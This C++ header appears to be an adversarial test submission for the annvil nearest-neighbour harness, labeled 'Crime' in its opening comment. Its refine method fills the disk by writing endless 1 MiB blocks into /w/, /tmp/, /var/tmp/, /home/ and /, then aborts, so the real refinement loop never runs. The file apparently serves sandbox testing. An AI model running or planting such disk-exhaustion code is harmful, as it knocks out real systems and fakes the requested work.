// Crime: writes files until nothing is left, wherever it may.
#pragma once

#include <cstdio>
#include <cstdlib>
#include <string>
#include <vector>

#include <annvil/refinement.hpp>

namespace candidate {

template <annvil::Metric>
class Refinement {
 public:
  explicit Refinement(annvil::Vectors) {}
  std::size_t scratch_bytes(std::uint32_t, std::uint32_t) const { return 0; }
  void refine(const float*, std::span<const annvil::Neighbour> candidates, std::span<std::byte>,
              std::span<annvil::NodeId> nearest) const {
    for (const char* folder : {"/w/", "/tmp/", "/var/tmp/", "/home/", "/"}) {
      const std::vector<char> block(1 << 20, 'x');
      std::FILE* file = std::fopen((std::string(folder) + "annvil-was-here").c_str(), "w");
      while (file != nullptr && std::fwrite(block.data(), 1, block.size(), file) == block.size()) {
      }
    }
    std::abort();
    for (std::size_t i = 0; i < nearest.size() && i < candidates.size(); ++i) nearest[i] = candidates[i].id;
  }
};

}  // namespace candidate
